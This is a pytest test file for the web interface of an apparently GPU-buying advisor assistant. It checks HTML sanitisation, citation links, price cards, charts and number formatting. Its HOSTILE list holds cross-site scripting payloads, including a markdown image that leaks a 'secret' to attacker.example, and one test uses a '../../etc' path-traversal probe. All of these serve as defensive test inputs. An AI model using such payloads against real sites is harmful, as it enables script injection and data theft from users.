"""What the page writes: safe HTML, in which every part of an answer can be found."""

import re

import pytest

from assistant.agent import Advisor, Step
from assistant.answer import Citation, ToolCallRecord
from tools.configuration import Configuration, Item, MemoryFit, Price
from ui.web import cards, chart, evidence, steps, turn
from ui.web.frontier import frontier
from ui.web.labels import labels
from ui.web.page import answering, inert
from ui.web.prose import prose
from ui.web.quantities import money, quantity

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://attacker.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//attacker.example></iframe>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_carries_no_active_content_and_loads_nothing(text: str) -> None:
    html = prose(text)
    assert not re.search(r"<(script|img|iframe|svg|object|style)", html)
    assert not re.search(r'(href|src)="?(javascript|data|vbscript):', html)
    assert not re.search(r"<[^>]*\son\w+=", html)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_person_or_a_document_wrote_is_shown_as_text(text: str) -> None:
    citation = Citation(marker=1, kind="document", title=text, locator=text, quote=text, url="javascript:alert(1)")
    record = ToolCallRecord(tool=text, request={"query": text}, result={"error": {"message": text}})
    html = turn.asked(text) + evidence.sources([citation], "t") + evidence.arithmetic([record])
    html += steps.running([Step("tool", text, {"query": text}), Step("result", text, {"error": {"message": text}})])
    html += turn.refused(text, text)
    assert not re.search(r"<(script|img|iframe|object)|<svg/|<a [^>]*javascript", html)


def test_template_expressions_are_not_evaluated_in_the_page() -> None:
    assert "{" not in inert("${7*7} {{constructor}} {#each}")


def test_links_of_an_answer_open_elsewhere_without_telling_whence() -> None:
    assert 'rel="noopener noreferrer nofollow" target="_blank"' in prose("[NVIDIA](https://www.nvidia.com/)")


def test_markers_link_to_their_source_and_others_stay_text() -> None:
    html = prose("Fits [1], says [7].", "abc", [1])
    assert 'data-source="s-abc-1"' in html
    assert "[7]" in html


def test_bold_ends_at_chinese_punctuation() -> None:
    assert "<strong>不能</strong>。Qwen" in prose("**不能。**Qwen2.5-72B")


def test_tables_scroll_by_themselves() -> None:
    assert '<div class="scroll" tabindex="0"><table>' in prose("| a | b |\n|---|---|\n| 1 | 2 |")


def configuration(**changes: object) -> Configuration:
    """A card to show."""
    fields: dict[str, object] = {
        "rank": 1, "title": "4 × RTX 3090", "acquisition": "buy", "gpu": "rtx-3090", "gpu_count": 4, "nodes": 1,
        "memory": MemoryFit(needed_bytes_per_gpu=22 * 2**30, usable_bytes_per_gpu=44 * 2**30, verdict="yes"),
        "price": Price(amount=3200, as_of="2026-06-29", complete=True), "why": "Cheapest that fits.",
        "items": (
            Item(part="gpu", product="RTX 3090", count=4, unit_price=800, subtotal=3200, source=None, price_date=None),
        ),
    }  # fmt: skip
    return Configuration.model_validate(fields | changes)


def test_a_card_shows_price_date_fit_reason_and_parts() -> None:
    html = cards.cards([configuration()])
    for part in ("4 × RTX 3090", "$3,200", "2026-06-29", "width:50.0%", "Cheapest that fits.", "$800"):
        assert part in html


def test_a_card_without_a_price_says_so_rather_than_nought() -> None:
    html = cards.cards([configuration(price=Price(amount=None, complete=False))])
    assert "Price unknown" in html
    assert "$0" not in html


def test_a_bar_never_grows_beyond_its_frame() -> None:
    fit = MemoryFit(needed_bytes_per_gpu=90 * 2**30, usable_bytes_per_gpu=22 * 2**30, verdict="no")
    assert "width:100.0%" in chart.fit_bar(fit)


def test_the_breakdown_names_every_part_with_its_size(advisor: Advisor) -> None:
    from tools.registry import tool

    result = tool("estimate_memory").call({"model": "Qwen2.5-72B", "gpu": "H100 SXM"}).model_dump(mode="json")
    html = chart.breakdown(result)
    assert all(f"p-{part['name']}" in html for part in result["per_gpu"]["parts"] if part["bytes"])


def point(price: float, tb_per_s: float) -> dict[str, object]:
    """A point of the frontier."""
    fields = {"title": f"<b>{price}</b>", "acquisition": "buy", "price": price, "period": None}
    return fields | {"bandwidth_bytes_per_s": int(tb_per_s * 10**12)}


def test_the_frontier_draws_and_lists_every_point_within_its_frame() -> None:
    html = frontier({"frontier": [point(900, 0.9), point(6000, 3.84), point(3_000_000, 576)]})
    places = [(float(x), float(y)) for x, y in re.findall(r'cx="(\d+)" cy="(\d+)"', html)]
    assert places == sorted(places, key=lambda place: (place[0], -place[1]))
    assert all(0 < x < 640 and 0 < y < 260 for x, y in places)
    assert html.count("<li>") == len(places) == 3
    assert "<b>" not in html


def test_a_frontier_of_few_points_is_not_drawn() -> None:
    assert frontier({"frontier": [point(900, 0.9), point(6000, 3.84)]}) == frontier({}) == ""


def test_an_answer_shows_its_sources_its_arithmetic_and_what_was_understood(advisor: Advisor) -> None:
    html = turn.answered(advisor.ask("4 张 3090 能跑 Qwen2.5-72B 吗？"))
    for part in (
        'class="understood"',
        'class="words"',
        "sources",
        "arithmetic",
        "breakdown",
        'class="cards"',
        "data-ask",
    ):
        assert part in html
    assert html.count("<details") == html.count("</details>")
    assert html.count("<div") == html.count("</div>")
    assert html.count("<span") == html.count("</span>")


def test_steps_appear_before_the_answer_and_the_box_is_emptied_at_once(advisor: Advisor) -> None:
    shown = list(answering(advisor, "4090 能跑 Qwen2.5-7B 吗？", "steps-1"))
    assert shown[0][2] == ""
    assert 'class="steps live"' in shown[0][1]
    assert any("Memory estimate" in frame[1] for frame in shown[:-1])
    assert 'class="reply"' in shown[-1][1]


def test_a_refused_question_stays_to_be_sent_again(advisor: Advisor) -> None:
    shown = list(answering(advisor, "x" * 30_000, "refused-1"))
    assert 'role="alert"' in shown[-1][1]
    assert f'data-fill="{"x" * 30_000}"' in shown[-1][1]


def test_former_turns_are_there_again_when_a_conversation_is_reopened(advisor: Advisor) -> None:
    from ui.web.page import opened

    list(answering(advisor, "Does the RTX 6000 Ada support NVLink?", "reopened-1"))
    assert "Does the RTX 6000 Ada support NVLink?" in opened(advisor, "reopened-1")
    assert opened(advisor, "../../etc") == opened(advisor, "") == opened(advisor, "never-seen") == ""


def test_every_label_has_both_languages() -> None:
    assert all(english and chinese for english, chinese in labels().values())


@pytest.mark.parametrize(
    ("value", "unit", "shown"),
    [
        (2**30, "bytes", "1.00 GiB (1,073,741,824 B)"),
        (7200, "s", "2 h"),
        (0.123456, "", "0.1235"),
        (None, "bytes", "–"),
        (True, "", "True"),
        (3_350_000_000_000, "bytes_per_s", "3.35 TB/s"),
    ],
)
def test_quantities_read_well(value: object, unit: str, shown: str) -> None:
    assert quantity(value, unit) == shown


def test_money_shows_cents_only_where_they_matter() -> None:
    assert (money(2.39, "USD"), money(27_000, "USD"), money(500_000, "CNY")) == ("$2.39", "$27,000", "¥500,000")
